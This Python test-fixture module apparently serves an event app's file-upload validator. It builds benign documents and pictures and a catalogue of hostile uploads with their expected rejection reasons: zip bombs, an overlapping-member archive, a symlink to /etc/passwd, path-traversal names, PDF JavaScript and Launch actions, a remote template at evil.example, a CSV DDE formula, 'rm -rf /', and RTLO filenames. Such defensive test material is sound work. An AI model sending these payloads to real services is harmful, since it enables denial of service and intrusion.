"""Files as people send them, made here: honest ones of every kind, and hostile ones."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from typing import Any, Final

from openpyxl import Workbook
from PIL import Image

from eventapp.core.files.kinds import DOCUMENT_LIMIT, MIB, Problem

CANARY: Final = b"GPS-25.2854N-51.5310E"  # what a camera wrote into a picture
_RELATION: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DOCX: Final = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
    "_rels/.rels": b'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="%s/officeDocument" '
    b'Target="word/document.xml"/></Relationships>' % _RELATION.encode(),
    "word/document.xml": b'<?xml version="1.0"?><w:document><w:body>Concept note</w:body></w:document>',
}


def pdf(body: bytes = b"", *, head: bytes = b"%PDF-1.7\n") -> bytes:
    """A small PDF that holds `body` among its objects."""
    return (
        head
        + b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Count 0>> endobj\n"
        + body
        + b"\nxref\n0 1\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )


def packed(members: dict[str, bytes], *, stored: bool = False) -> bytes:
    """A ZIP file of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(**more: bytes) -> bytes:
    """A small Word document; `more` are members besides, their names written with `__` for `/`."""
    return packed(_DOCX | {name.replace("__", "/"): content for name, content in more.items()})


def docx_with(member: str, content: bytes = b"x") -> bytes:
    """A small Word document with one member more, or another one in place of its own."""
    return packed(_DOCX | {member: content})


def xlsx() -> bytes:
    """A workbook as openpyxl makes it."""
    book, out = Workbook(), io.BytesIO()
    book.active.append(["State", "Seats"])  # type: ignore[union-attr]
    book.save(out)
    return out.getvalue()


def odt(kind: str = "text", **more: bytes) -> bytes:
    """A small OpenDocument file."""
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    members = {"mimetype": mimetype, "content.xml": b"<office:document-content/>"}
    return packed(members | {name.replace("__", "/"): content for name, content in more.items()})


def picture(
    form: str = "PNG", size: tuple[int, int] = (60, 40), *, told: bool = False, red: int = 140, **options: Any
) -> bytes:
    """A picture of one colour; `told` adds what cameras write into it."""
    image, out = Image.new("RGB", size, (red, 30, 60)), io.BytesIO()
    if told:
        exif = Image.Exif()
        exif[0x010E] = CANARY.decode()
        exif[0x0112] = 6  # lies on its side
        exif.get_ifd(0x8825)[1] = "N"
        image.save(out, form, exif=exif)
    else:
        image.save(out, form, **options)
    return out.getvalue()


HONEST: Final[dict[str, tuple[str, Callable[[], bytes]]]] = {
    "pdf": ("Concept note.pdf", pdf),
    "docx": ("concept.docx", docx),
    "xlsx": ("participants.xlsx", xlsx),
    "pptx": (
        "slides.pptx",
        lambda: packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p:presentation/>"}),
    ),
    "odt": ("note.odt", odt),
    "ods": ("table.ods", partial(odt, "spreadsheet")),
    "odp": ("slides.odp", partial(odt, "presentation")),
    "txt": ("مذكرة.txt", "مذكرة مفاهيمية\r\nسطر ثان".encode),
    "csv": ("list.csv", lambda: b"State,Phone,Change\r\nQatar,+974 4444 1234,-5\r\n"),
    "png": ("map.png", picture),
    "jpeg": ("hall.JPEG", partial(picture, "JPEG")),
    "webp": ("hall.webp", partial(picture, "WEBP")),
}


def _png_of(width: int, height: int, rows: int = 1) -> bytes:
    """A PNG that claims a size; its pixels are next to nothing when packed."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    pixels = zlib.compress(b"\0" * (width * 3 + 1) * rows, 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _bomb(size: int = 600) -> bytes:
    """A Word document of a few hundred kB that unpacks to `size` MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in _DOCX.items():
            archive.writestr(name, content)
        with archive.open("word/media/image1.png", "w") as member:
            for _turn in range(size):
                member.write(b"\0" * MIB)
    return out.getvalue()


def _lying_bomb() -> bytes:
    """The same, claiming in both its heads that the member holds a hundred bytes."""
    body = bytearray(_bomb())
    size = struct.pack("<I", 600 * MIB)
    start = 0
    while (start := body.find(size, start)) >= 0:
        body[start : start + 4] = struct.pack("<I", 100)
    return bytes(body)


def _quine() -> bytes:
    """Every entry of the directory unpacks the same kernel: overlapping members."""
    body = bytearray(docx_with("word/media/kernel.png", b"\0" * 20 * MIB))
    end = body.rfind(b"PK\x05\x06")
    count, length, offset = struct.unpack("<HII", body[end + 10 : end + 20])
    directory = bytes(body[offset : offset + length])
    last = directory[directory.rfind(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"kernel.png", f"kern{number:06}"[:10].encode()) for number in range(500))
    whole = directory + copies
    record = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 500, count + 500, len(whole), offset, 0)
    return bytes(body[:offset]) + whole + record


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in _DOCX.items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/link.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _locked_zip() -> bytes:
    """The flag of encryption set on every member."""
    body = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := body.find(mark, start)) >= 0:
            body[start + place] |= 1
            start += 4
    return bytes(body)


def _hidden_script() -> bytes:
    """A script in an object stream, its name spelt with an escape."""
    content = zlib.compress(b"5 0 <</S /J#61vaScript /JS (app.alert(1))>>")
    return pdf(
        b"4 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\n" + content + b"\nendstream"
    )


def _external(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="r9" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx_with("word/_rels/document.xml.rels", f"<Relationships>{relation}</Relationships>".encode())


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in _DOCX.items():
            archive.writestr(name, content)
        archive.filelist.append(archive.filelist[-1])
    return out.getvalue()


_EICAR: Final = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
_SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_LAUGHS: Final = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
# What it is called, the name it is sent under, its bytes, and why it is refused (None: taken, and harmless).
HOSTILE: Final[list[tuple[str, str, Callable[[], bytes], Problem | None]]] = [
    ("empty", "note.pdf", lambda: b"", Problem.EMPTY),
    ("one byte too many", "note.txt", lambda: b"a" * (DOCUMENT_LIMIT + 1), Problem.TOO_LARGE),
    ("html as pdf", "note.pdf", lambda: b"<html><script>alert(1)</script>", Problem.EXTENSION),
    ("html before pdf", "note.pdf", lambda: b"<script>alert(1)</script>\n" + pdf(), Problem.EXTENSION),
    ("html as txt", "note.txt", lambda: b"\n <!doctype html><script>alert(1)</script>", Problem.TEXT),
    ("html", "note.html", lambda: b"<!doctype html><title>x</title>", Problem.NOT_ALLOWED),
    ("svg with script", "plan.svg", lambda: _SVG, Problem.NOT_ALLOWED),
    ("svg as png", "plan.png", lambda: _SVG, Problem.EXTENSION),
    ("xml", "note.xml", lambda: _LAUGHS, Problem.NOT_ALLOWED),
    ("postscript as txt", "note.txt", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", Problem.TEXT),
    ("program", "setup.exe", lambda: b"MZ\x90\0" + bytes(200), Problem.NOT_ALLOWED),
    ("program as pdf", "note.pdf", lambda: b"MZ\x90\0" + bytes(200), Problem.EXTENSION),
    ("shell script as txt", "note.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Problem.TEXT),
    ("rtf with object", "note.rtf", lambda: b"{\\rtf1{\\object\\objemb}}", Problem.NOT_ALLOWED),
    ("test virus", "note.txt", lambda: _EICAR, Problem.KNOWN_BAD),
    ("htaccess", ".htaccess", lambda: b"AddType text/html .pdf", Problem.NAME),
    ("no ending", "note", pdf, Problem.NAME),
    ("double ending", "note.pdf.exe", pdf, Problem.NOT_ALLOWED),
    ("turned name", "note\u202efdp.exe.pdf", pdf, Problem.NAME),
    ("nul in name", "note.pdf\0.exe", pdf, Problem.NAME),
    ("three hundred characters", "n" * 300 + ".pdf", pdf, None),
    ("path as name", "../../etc/cron.d/note.pdf", pdf, None),
    ("pdf script", "note.pdf", partial(pdf, b"3 0 obj <</S /JavaScript /JS (x)>> endobj"), Problem.ACTIVE),
    ("pdf launch", "note.pdf", partial(pdf, b"3 0 obj <</S /Launch /F (cmd.exe)>> endobj"), Problem.ACTIVE),
    ("pdf with files", "note.pdf", partial(pdf, b"3 0 obj <</Type /EmbeddedFile>> endobj"), Problem.ACTIVE),
    ("pdf script hidden", "note.pdf", _hidden_script, Problem.ACTIVE),
    ("pdf locked", "note.pdf", partial(pdf, b"trailer <</Encrypt 9 0 R>>"), Problem.LOCKED),
    ("pdf and zip", "note.pdf", lambda: pdf() + packed({"x.html": b"<script>"}) + b"%%EOF", None),
    ("zip", "files.zip", lambda: packed({"x.txt": b"x"}), Problem.NOT_ALLOWED),
    ("zip as docx", "note.docx", lambda: packed({"x.txt": b"x"}), Problem.EXTENSION),
    ("macros", "note.docx", partial(docx_with, "word/vbaProject.bin"), Problem.ACTIVE),
    ("object inside", "note.docx", partial(docx_with, "word/embeddings/oleObject1.bin"), Problem.ACTIVE),
    (
        "remote template",
        "note.docx",
        partial(_external, "attachedTemplate", "https://evil.example/t.dotm"),
        Problem.OUTWARD,
    ),
    ("file link", "note.docx", partial(_external, "hyperlink", "file://host/share"), Problem.OUTWARD),
    ("entities", "note.docx", partial(docx_with, "word/document.xml", _LAUGHS), Problem.DAMAGED),
    ("member climbs out", "note.docx", partial(docx_with, "../../etc/passwd"), Problem.DAMAGED),
    ("symlink", "note.docx", _symlink, Problem.DAMAGED),
    ("zip bomb", "note.docx", _bomb, Problem.INFLATED),
    ("zip bomb that lies", "note.docx", _lying_bomb, Problem.DAMAGED),
    ("overlapping members", "note.docx", _quine, Problem.INFLATED),
    (
        "hundred thousand members",
        "note.docx",
        lambda: packed({f"word/{number}.xml": b"" for number in range(60_000)}, stored=True),
        Problem.INFLATED,
    ),
    ("two members of one name", "note.docx", _twice, Problem.DAMAGED),
    ("locked members", "note.docx", _locked_zip, Problem.LOCKED),
    ("html before zip", "note.docx", lambda: b"<script>alert(1)</script>" + docx(), Problem.EXTENSION),
    ("nested archive", "note.docx", partial(docx_with, "word/a.zip", packed({"x": b"x"})), Problem.ACTIVE),
    ("odt with basic", "note.odt", lambda: odt(Basic__Standard__M=b"Sub Main"), Problem.ACTIVE),
    ("ods as odt", "note.odt", partial(odt, "spreadsheet"), Problem.EXTENSION),
    ("formula", "list.csv", lambda: b"a,b\r\n1,=cmd|'/c calc'!A1\r\n", Problem.FORMULA),
    ("formula full width", "list.csv", "a;\uff1d1+1".encode, Problem.FORMULA),
    ("other encoding", "note.txt", lambda: "قرار".encode("windows-1256"), Problem.TEXT),
    ("pixel flood", "map.png", lambda: _png_of(11_000, 11_000), Problem.PIXELS),
    ("pixel flood by claim", "map.png", lambda: _png_of(2**31 - 1, 2**31 - 1, 0), Problem.PIXELS),
    ("as large as a picture may be", "map.png", lambda: _png_of(4000, 3000, 3000), None),
    ("as large, turned", "hall.jpg", partial(picture, "JPEG", (8000, 8000), told=True), None),
    ("as large, WebP", "hall.webp", partial(picture, "WEBP", (2300, 1700)), None),
    ("as large, progressive", "hall.jpg", partial(picture, "JPEG", (4000, 3000), progressive=True), None),
    ("progressive flood", "h.jpg", partial(picture, "JPEG", (8000, 8000), progressive=True), Problem.PIXELS),
    ("as large as a PDF may be", "note.pdf", lambda: pdf(b"%" + random.Random(1).randbytes(49 * MIB)), None),
    ("as large as may be, unpacked", "note.docx", partial(_bomb, 199), None),
    ("broken picture", "map.png", lambda: picture()[:60], Problem.DAMAGED),
    ("where it was taken", "hall.jpg", partial(picture, "JPEG", told=True), None),
    ("picture and page", "hall.png", lambda: picture() + b"<script>alert(1)</script>", None),
    ("gif", "hall.gif", partial(picture, "GIF"), Problem.NOT_ALLOWED),
]
